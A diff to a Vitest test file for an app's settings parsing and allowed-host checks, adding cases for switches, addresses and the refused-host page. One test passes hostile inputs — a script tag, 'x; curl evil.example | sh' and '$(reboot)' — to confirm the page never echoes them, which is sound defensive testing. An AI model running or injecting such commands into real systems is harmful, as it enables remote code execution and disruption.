@@ -1,6 +1,6 @@
 import { homedir } from 'node:os'
 import { describe, expect, it } from 'vitest'
-import { isAllowedHost } from './allowed-host.ts'
+import { isAllowedHost, ownAddress } from './allowed-host.ts'
 import { refusedHostPage } from './bare-page.ts'
 import { readSettings } from './settings.ts'
 
@@ -58,6 +58,19 @@ describe('settings', () => {
       { STEWARD_WEBHOOK_URL: 'https://hooks.example/', STEWARD_WEBHOOK_SECRET: 'short' },
       'STEWARD_WEBHOOK_SECRET',
     ],
+    [
+      'a word where 1 is meant',
+      { STEWARD_READ_ONLY: 'true' },
+      'STEWARD_READ_ONLY must be 1 or 0, not "true"',
+    ],
+    ['yes where 1 is meant', { STEWARD_TRUST_PROXY: 'yes' }, 'STEWARD_TRUST_PROXY must be 1 or 0'],
+    [
+      'a port among the host names',
+      { STEWARD_ALLOWED_HOSTS: 'a.lan, nas.lan:9191' },
+      '"nas.lan:9191" is none',
+    ],
+    ['an address among the host names', { STEWARD_ALLOWED_HOSTS: 'https://a.lan' }, 'STEWARD_ALLOWED_HOSTS'],
+    ['a password nobody would type', { STEWARD_PASSWORD: 'secret ' }, 'STEWARD_PASSWORD begins or ends'],
     ['one password for both roles', { STEWARD_PASSWORD: 'x', STEWARD_VIEWER_PASSWORD: 'x' }, 'the same'],
   ])('%s stops the start and names the setting', (_, env, name) => {
     const read = readSettings(env)
@@ -86,6 +99,33 @@ it('an address others can reach is fine with a password', () => {
   })
 })
 
+it.each([
+  [undefined, false],
+  ['', false],
+  ['0', false],
+  ['1', true],
+])('a switch that is %j is %s', (value, is) => {
+  expect(readSettings({ STEWARD_READ_ONLY: value, STEWARD_TRUST_PROXY: value })).toMatchObject({
+    ok: true,
+    value: { readOnly: is, trustProxy: is },
+  })
+})
+
+it.each([
+  ['127.0.0.1', 'http://127.0.0.1:9191'],
+  ['::1', 'http://[::1]:9191'],
+  ['0.0.0.0', 'http://127.0.0.1:9191'],
+  ['::', 'http://127.0.0.1:9191'],
+  ['192.168.1.5', 'http://192.168.1.5:9191'],
+  ['nas.lan', 'http://nas.lan:9191'],
+  ['fd00::5', 'http://[fd00::5]:9191'],
+])('listening on %s, the printed address is %s and is answered', (STEWARD_HOST, address) => {
+  const read = readSettings({ STEWARD_HOST, STEWARD_PASSWORD: 'x' })
+  if (!read.ok) throw new Error(read.fault)
+  expect(ownAddress(read.value)).toBe(address)
+  expect(isAllowedHost(new URL(address).host, read.value.allowedHosts)).toBe(true)
+})
+
 describe('host names', () => {
   it.each(['127.0.0.1:9191', 'localhost', 'LOCALHOST:1', '[::1]:9191', 'nas.lan:9191'])(
     '%s is answered',
@@ -109,7 +149,12 @@ describe('host names', () => {
   })
 
   it('the refusal shows the setting to copy and never the header as markup', () => {
-    expect(refusedHostPage('nas.lan:9191')).toContain('STEWARD_ALLOWED_HOSTS=nas.lan npm start')
-    expect(refusedHostPage('<script>alert(1)</script>')).not.toContain('<script>')
+    expect(refusedHostPage('nas.lan:9191', [])).toContain('STEWARD_ALLOWED_HOSTS=nas.lan npm start')
+    expect(refusedHostPage('NAS.lan', ['a.lan', 'b.lan'])).toContain('=a.lan,b.lan,nas.lan npm start')
+    for (const odd of ['<script>alert(1)</script>', 'x; curl evil.example | sh', '$(reboot)', 'a b', null]) {
+      const page = refusedHostPage(odd, ['a.lan'])
+      expect(page).toContain('STEWARD_ALLOWED_HOSTS=a.lan,NAME npm start')
+      if (odd !== null) expect(page).not.toContain(odd)
+    }
   })
 })
